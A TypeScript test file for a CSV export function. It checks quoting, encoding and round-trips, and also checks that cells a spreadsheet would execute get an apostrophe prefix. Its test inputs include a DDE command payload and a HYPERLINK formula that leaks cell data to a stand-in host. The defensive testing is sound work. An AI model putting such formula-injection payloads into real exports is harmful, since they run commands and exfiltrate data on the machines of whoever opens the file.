import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { type Cell, toCsv } from './csv.ts'

/** Reads RFC 4180 without a library: quoted fields may hold anything, a quote is written twice. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/y
  while (field.lastIndex < text.length) {
    const match = field.exec(text)
    if (match === null) throw new Error('not RFC 4180')
    row.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '')
    if (match[3] === ',') continue
    rows.push(row)
    row = []
  }
  return rows
}

/** One row of a file, as it is written behind mark and header. */
function rowOf(cells: readonly Cell[]): string {
  return toCsv(['header'], [cells]).slice('\uFEFFheader\r\n'.length)
}

describe('toCsv', () => {
  test('writes a byte order mark, CRLF after each line, numbers as numbers, null as nothing', () => {
    const rows = [
      ['Saber, "Squad"', 3, null],
      ['two\nlines', -1.5, ''],
    ]
    expect(toCsv(['name', 'seed', 'note'], rows)).toBe(
      '\uFEFFname,seed,note\r\n"Saber, ""Squad""",3,\r\n"two\nlines",-1.5,\r\n',
    )
  })

  test('writes a header alone', () => {
    expect(toCsv(['a', 'b'], [])).toBe('\uFEFFa,b\r\n')
  })

  test('is UTF-8 with its mark', () => {
    expect([...Buffer.from(toCsv(['é'], []))].slice(0, 5)).toEqual([0xef, 0xbb, 0xbf, 0xc3, 0xa9])
  })

  test('loses nothing, whatever the text', () => {
    // A cell that is never empty or a formula, so that a row is never a blank line or changed on purpose.
    const cell = fc.string({ unit: 'binary' }).map((text) => `x${text}`)
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 })), (rows) => {
        expect(parseCsv(toCsv(['a', 'b', 'c'], rows).slice(1))).toEqual([['a', 'b', 'c'], ...rows])
      }),
    )
  })
})

describe('a cell that a spreadsheet would run', () => {
  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '  =1',
    '\u00A0=1',
    '\u200B=1',
    '＝1',
    '＋1',
    '－1',
    '＠A',
    '\u22121',
    '-',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
  ])('%j gets an apostrophe', (text) => {
    expect(parseCsv(rowOf([text]))).toEqual([[`'${text}`]])
  })

  test.each(['a=1', '1-2', 'a@b.example', "'x", ' a', '3', '(=1)'])('%j is none', (text) => {
    expect(parseCsv(rowOf([text]))).toEqual([[text]])
  })

  test('is none when it is a number', () => {
    expect(rowOf([-1, 1e21, 0, 0.1])).toBe('-1,1e+21,0,0.1\r\n')
  })

  test('may be in the header too', () => {
    expect(toCsv(['=1'], [])).toBe("\uFEFF'=1\r\n")
  })
})
